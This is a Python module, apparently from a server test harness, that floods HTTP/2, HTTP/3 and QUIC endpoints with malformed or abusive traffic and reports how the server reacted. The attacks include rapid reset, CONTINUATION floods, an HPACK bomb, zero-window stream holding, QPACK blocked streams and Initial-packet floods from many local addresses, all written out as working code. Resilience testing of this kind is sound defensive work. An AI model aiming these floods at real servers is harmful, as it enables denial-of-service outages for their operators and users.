"""Clients that misbehave: floods of HTTP/2 frames, of HTTP/3 streams, of QUIC datagrams. In a process of its
own: `python3 -m harness.attacks NAME HOST PORT [CONNECTIONS]`, until it
has made so many or is told to stop (SIGTERM); then a line of JSON with what became of it."""

import collections
import itertools
import json
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time
from pathlib import Path

from .h2client import CONTINUATION, DATA, HEADERS, PING, PREFACE, PRIORITY, RST, SETTINGS, WINDOW, connect, frame
from .scale import limit

HEAD = bytes.fromhex("828784") + b"\x41\x0cexample.test"  # GET, https, /, :authority
POST_HEAD = bytes.fromhex("838784") + b"\x41\x0cexample.test"
OVERFLOW = struct.pack(">I", 0x7fffffff)


def setting(number, value):
    return struct.pack(">HI", number, value)


def streams(i, one, count=100):
    """ONE(stream) for the COUNT streams of round I."""
    return b"".join(one(2 * s + 1) for s in range(count * i, count * i + count))


def big_head(s):
    return frame(HEADERS, 1, s, HEAD) + b"".join(
        frame(CONTINUATION, 4 if k == 2 else 0, s, b"\x00\x01x\x7f\x81\x7c" + b"y" * 16000) for k in range(3))


def hpack_bomb(s):
    """RFC 7541 7.3: a long field goes into the table once, and is named by one byte a thousand times."""
    put = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    return frame(HEADERS, 5, s, HEAD + (put if s == 1 else b"") + b"\xbe" * 8000)


# Bytes of round 0, 1, 2, ... after the preface.
H2 = {
    "settings": lambda i: frame(SETTINGS, 0, 0, setting(4, 65535)) * 100,
    "ping": lambda i: frame(PING, 0, 0, bytes(8)) * 100,
    "priority": lambda i: frame(PRIORITY, 0, 1, bytes.fromhex("0000000010")) * 100,
    "priority update": lambda i: frame(16, 0, 0, struct.pack(">I", 1) + b"u=1") * 100,
    "unknown": lambda i: frame(0x55, 0, 0, b"x") * 1000,
    "window": lambda i: frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 2000,
    "rapid reset": lambda i: streams(i, lambda s: frame(HEADERS, 5, s, HEAD) + frame(RST, 0, s, struct.pack(">I", 8))),
    "made reset": lambda i: streams(i, lambda s: frame(HEADERS, 5, s, HEAD) + frame(WINDOW, 0, s, bytes(4))),
    "made reset by overflow": lambda i: streams(
        i, lambda s: frame(HEADERS, 4, s, POST_HEAD) + frame(WINDOW, 0, s, OVERFLOW)),
    "made reset by content": lambda i: streams(
        i, lambda s: frame(HEADERS, 4, s, POST_HEAD + b"\x0f\x0d\x011") + frame(DATA, 1, s, b"more than one byte")),
    "made reset by a late frame": lambda i: streams(
        i, lambda s: frame(HEADERS, 5, s, HEAD) + frame(DATA, 0, s, b"after the end")),
    "made reset by a priority of itself": lambda i: streams(
        i, lambda s: frame(HEADERS, 5, s, HEAD) + frame(PRIORITY, 0, s, struct.pack(">IB", s, 1))),
    "empty data": lambda i: (frame(HEADERS, 4, 1, POST_HEAD) if i == 0 else b"") + frame(DATA, 0, 1) * 100,
    "continuation": lambda i: (frame(HEADERS, 1, 1, HEAD) if i == 0 else b"") +
    frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y") * 100,
    "empty continuation": lambda i: (frame(HEADERS, 1, 1, HEAD) if i == 0 else b"") + frame(CONTINUATION, 0, 1) * 100,
    "big heads": lambda i: streams(i, big_head, 5),
    "hpack bomb": lambda i: streams(i, hpack_bomb, 20),
    "zero window": lambda i: frame(SETTINGS, 0, 0, setting(4, 0)) + streams(0, lambda s: frame(HEADERS, 5, s, HEAD))
    if i == 0 else None,
}
ROUNDS = 400


class Count:
    def __init__(self):
        self.made = self.ended = 0
        self.codes = collections.Counter()

    def as_dict(self):
        return {"made": self.made, "ended": self.ended, "codes": dict(self.codes)}


def last_goaway(data):
    code, at = None, 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at:at + 3], "big")
        if data[at + 3] == 7 and at + 17 <= len(data):
            code = int.from_bytes(data[at + 13:at + 17], "big")
        at += 9 + length
    return code


def over_h2(name, address, count, kept=collections.deque(maxlen=20)):
    """One connection that floods until it is ended."""
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    conn = connect(address, tls)
    count.made += 1
    try:
        conn.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for i in range(ROUNDS):
            data = H2[name](i)
            if data is None:  # stays there
                if len(kept) == kept.maxlen:
                    kept[0].close()
                kept.append(conn)
                time.sleep(0.02)
                return
            conn.sendall(data)
        conn.settimeout(limit(5))
    except OSError:
        pass
    received = b""
    try:
        while data := conn.recv(65536):
            received += data
        count.ended += 1
    except TimeoutError:
        pass
    except OSError:
        count.ended += 1
    count.codes[last_goaway(received)] += 1
    conn.close()


# --- HTTP/3


def h3_rapid_reset(client):
    for _ in range(50):
        stream = client.send("/?r", end=False)
        client.quic.reset_stream(stream, 0x10c)
        client.quic.stop_stream(stream, 0x10c)


def h3_heads(client):
    from .h3client import literals
    from aioquic.buffer import encode_uint_var
    head = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/")]
    data = literals([*head, (b"x", b"y" * 40_000)])
    for _ in range(4):
        client.raw_stream(encode_uint_var(1) + encode_uint_var(len(data)) + data)


def h3_churn(client):
    """As many streams as there may be, each ended at once: the limit is raised again and again."""
    for _ in range(100):
        client.raw_stream(b"", end=True)


def h3_one_way_churn(client):
    """The same of streams that only the client sends on, of a kind that nobody knows."""
    for _ in range(8):
        stream = client.quic.get_next_available_stream_id(is_unidirectional=True)
        client.quic.send_stream_data(stream, b"\x21x", True)


def h3_unknown(client):
    """Frames that nobody knows, for ever, on one stream."""
    from aioquic.buffer import encode_uint_var
    stream = 0 if client.answers else client.raw_stream(b"", end=False)
    client.quic.send_stream_data(stream, (encode_uint_var(0x21) + b"\x01x") * 2000)


def h3_blocked(client):
    """RFC 9204 2.1.2: heads that wait for a table that never comes."""
    from aioquic.buffer import encode_uint_var
    for _ in range(20):
        client.raw_stream(encode_uint_var(1) + encode_uint_var(3) + b"\x02\x80\x10", end=False)


def h3_made_reset(client):
    """Requests whose content is longer than they say: each is to be reset."""
    from .h3client import literals
    from aioquic.buffer import encode_uint_var
    data = literals([(b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/"),
                     (b"content-length", b"1")])
    for _ in range(20):
        client.raw_stream(encode_uint_var(1) + encode_uint_var(len(data)) + data + b"\0\x10" + b"more than a byte")


def h3_priority(client):
    """RFC 9218 7.2"""
    from aioquic.buffer import encode_uint_var
    update = encode_uint_var(0xf0700) + encode_uint_var(4) + encode_uint_var(0) + b"u=1"
    client.quic.send_stream_data(client.http._local_control_stream_id, update * 500)


def h3_settings(client):
    client.quic.send_stream_data(client.http._local_control_stream_id, b"\x04\0" * 500)


def h3_pings(client):
    """Packets of QUIC with nothing but a PING."""
    for n in range(50):
        client.quic.send_ping(n)
        client.flush()


def h3_closed_windows(client):
    """100 answers that nobody takes."""
    for _ in range(100):
        client.send("/")


H3 = {"h3 rapid reset": h3_rapid_reset, "h3 made reset": h3_made_reset,
      "h3 priority update": h3_priority, "h3 settings": h3_settings, "h3 pings": h3_pings,
      "h3 zero window": h3_closed_windows, "h3 big heads": h3_heads, "h3 stream churn": h3_churn,
      "h3 one-way churn": h3_one_way_churn, "h3 unknown frames": h3_unknown,
      "h3 blocked heads": h3_blocked}


def over_h3(name, address, count, stopping=(), kept=collections.deque(maxlen=20)):
    """One connection that does so until it is ended."""
    from .h3client import Client
    try:
        client = Client(address, window=0 if name == "h3 zero window" else None)
    except AssertionError:
        count.codes["refused"] += 1
        return
    count.made += 1
    if name == "h3 zero window":  # stays there
        H3[name](client)
        if len(kept) == kept.maxlen:
            kept[0].__exit__()
        kept.append(client)
        return
    end = time.monotonic() + (1 if name in STAYING else limit(10))
    while client.terminated is None and time.monotonic() < end and not stopping:
        H3[name](client)
        client.step(0.005)
    if client.terminated:
        count.ended += 1
        count.codes[client.terminated.error_code] += 1
    client.__exit__()


def initial(address):
    """The first datagrams of a client that then says nothing more."""
    from .h3client import Client
    client = Client(address, connect=False)
    datagrams = [data for data, _ in client.quic.datagrams_to_send(now=time.monotonic())]
    client.socket.close()
    return datagrams


def initials(address, count):
    """From many addresses of this machine."""
    n = count.made
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as plain:
        plain.bind((f"127.{n >> 16 & 127}.{n >> 8 & 255}.{n % 254 + 1}", 0))
        for data in initial(address):
            plain.sendto(data, address)
    count.made += 1


NAMES = [*H2, *H3, "initials"]
STAYING = ("zero window", "h3 zero window", "h3 pings", "initials")  # nothing ends these at once


def one(name, address, count, stopping):
    if name == "initials":
        initials(address, count)
    elif name in H2:
        over_h2(name, address, count)
    else:
        over_h3(name, address, count, stopping)


def main(name, host, port, connections=None):
    stopping = []
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(True))
    count, address = Count(), (host, int(port))
    names = itertools.cycle([n for n in NAMES if n.startswith("h3 ") or n == "initials"] if name == "all of h3" else
                            list(H2) if name == "all of h2" else [name])
    print("begun", flush=True)
    while not stopping and (connections is None or count.made < int(connections)):
        try:
            one(next(names), address, count, stopping)
        except OSError:  # the edge takes no more
            count.codes["refused"] += 1
            time.sleep(0.01)
    print(json.dumps(count.as_dict()), flush=True)


class Attack:
    """`with Attack(name, address): ...` as long as the block takes; or .run(CONNECTIONS). Then .result. CORES: it runs
    there, and only when nobody else wants to, as if it were on another machine; or with PRIORITY (SCHED_RR)."""

    def __init__(self, name, address, cores=None, priority=None):
        self.arguments = [name, address[0], str(address[1])]
        self.cores, self.priority = cores, priority
        self.result = None

    def _start(self, *more):
        top = str(Path(__file__).resolve().parent.parent)
        process = subprocess.Popen([sys.executable, "-B", "-m", "harness.attacks", *self.arguments, *more], cwd=top,
                                   stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
        if self.cores:
            os.sched_setaffinity(process.pid, self.cores)
            kind, param = (os.SCHED_RR, self.priority) if self.priority else (os.SCHED_IDLE, 0)
            os.sched_setscheduler(process.pid, kind, os.sched_param(param))
        assert process.stdout.readline() == "begun\n"
        return process

    def _end(self, process, timeout):
        try:
            output, _ = process.communicate(timeout=limit(timeout))
        finally:
            process.kill()
        self.result = json.loads(output)
        return self.result

    def run(self, connections, timeout=60):
        return self._end(self._start(str(connections)), timeout)

    def __enter__(self):
        self.process = self._start()
        return self

    def __exit__(self, *_):
        self.process.send_signal(signal.SIGTERM)
        self._end(self.process, 60)


if __name__ == "__main__":
    main(*sys.argv[1:])
